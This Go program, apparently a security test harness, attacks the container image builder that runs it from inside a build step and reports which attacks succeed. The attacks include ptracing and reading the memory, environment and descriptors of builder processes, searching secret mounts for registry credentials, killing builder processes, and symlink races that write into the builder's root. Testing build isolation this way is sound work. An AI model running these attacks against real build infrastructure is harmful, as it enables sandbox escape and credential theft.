//go:build linux

// Command hostile attacks the builder that runs it in a build step. It prints whether each attack succeeded.
//
//	hostile                               tries all attacks that leave the build running
//	hostile stop                          stops the helper that emulates owners, and continues it
//	hostile slot                          attacks the agent of a container for build steps, and looks for what another step has left
//	hostile node                          opens files of the node's kernel to write to them, and writes nothing
//	hostile swap DIRECTORY TARGET         makes DIRECTORY and a link to TARGET, which change places until DIRECTORY/../stop exists
//	hostile supervisor|engine|ownership   kills the processes of that part of the builder
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"syscall"
)

func main() {
	switch {
	case len(os.Args) == 2 && os.Args[1] == "stop":
		stop(builders("ownership"))
		return
	case len(os.Args) == 2 && os.Args[1] == "slot":
		slot()
		return
	case len(os.Args) == 2 && os.Args[1] == "node":
		node()
		return
	case len(os.Args) == 4 && os.Args[1] == "swap":
		swap(os.Args[2], os.Args[3])
		return
	case len(os.Args) > 1:
		for _, pid := range builders(os.Args[1]) {
			fmt.Fprintln(os.Stdout, "killed", pid, syscall.Kill(pid, syscall.SIGKILL) == nil)
		}
		return
	}
	processes := slices.Concat(builders("supervisor"), builders("engine"), builders("worker"), builders("ownership"))
	for _, attack := range []struct {
		name      string
		succeeded bool
	}{
		{"see", len(processes) > 0},
		{"kill", hits(processes, func(pid int) bool { return syscall.Kill(pid, 0) == nil })},
		{"ptrace", hits(processes, ptrace)},
		{"memory", hits(processes, func(pid int) bool { return readable(proc(pid, "mem")) })},
		{"environment", hits(processes, func(pid int) bool { return len(content(proc(pid, "environ"))) > 0 })},
		{"descriptors", hits(processes, func(pid int) bool { return readable(proc(pid, "fd/0")) || readable(proc(pid, "fd/1")) })},
		{"directory", hits(processes, func(pid int) bool { return readable(proc(pid, "cwd")) })},
		{"maps", hits(processes, func(pid int) bool { return len(content(proc(pid, "maps"))) > 0 })},
		{"vector", hits(processes, vector)},
		{"files", hits(processes, func(pid int) bool { return readable(proc(pid, "root/run/kubectl-img")) })},
		{"credentials", credentials(processes)},
		{"make", makes(processes)},
	} {
		fmt.Fprintln(os.Stdout, "attack", attack.name, attack.succeeded)
	}
}

// builders returns the processes of one part of the builder that this process can see.
func builders(part string) []int {
	var found []int
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err != nil {
			continue
		}
		argv := bytes.Split(content(proc(pid, "cmdline")), []byte{0})
		supervisor := len(argv) > 1 && string(argv[1]) == "/run/kubectl-img/supervisor"
		engine := len(argv) > 1 && string(argv[0]) == "img" && string(argv[1]) == "build"
		worker := len(argv) > 1 && string(argv[0]) == "img-engine" && string(argv[1]) == "build"
		ownership := len(argv) > 1 && string(argv[0]) == "ownership" && string(argv[1]) == "--report"
		if part == "supervisor" && supervisor || part == "engine" && engine || part == "worker" && worker || part == "ownership" && ownership {
			found = append(found, pid)
		}
	}
	return found
}

// credentials looks for a registry login in the pod's files, and in the files and the environment of the builder's processes.
func credentials(processes []int) bool {
	roots := []string{"/run/kubectl-img", "/run/secrets"}
	for _, pid := range processes {
		roots = append(roots, proc(pid, "root/run/kubectl-img"), proc(pid, "root/run/secrets"), proc(pid, "environ"))
	}
	found := errors.New("found")
	for _, root := range roots {
		if filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && bytes.Contains(content(path), []byte(`"auth"`)) {
				return found
			}
			return nil
		}) != nil {
			return true
		}
	}
	return false
}

// makes tries to create a directory among the builder's files. It does so as another user, so that the program that emulates users does it on
// its behalf, and through links that lead to the root of the process that follows them.
func makes(processes []int) bool {
	runtime.LockOSThread()
	_ = syscall.Setfsuid(1234)
	defer func() { _ = syscall.Setfsuid(0) }()
	roots := []string{"/proc/self/root", "/proc/thread-self/root"}
	for _, pid := range processes {
		roots = append(roots, proc(pid, "root"), proc(pid, "cwd/.."))
	}
	made := false
	for i, root := range roots {
		for _, dir := range []string{"/tmp", "/run/kubectl-img"} {
			link := filepath.Join(dir, "to"+strconv.Itoa(i))
			if os.Symlink(root, link) != nil {
				continue
			}
			for _, path := range []string{filepath.Join(root, "run/kubectl-img/made"), link + "/run/kubectl-img/made"} {
				if os.Mkdir(path, 0o700) == nil {
					made = os.Remove(path) == nil || made
				}
			}
			_ = os.Remove(link)
		}
	}
	return made
}
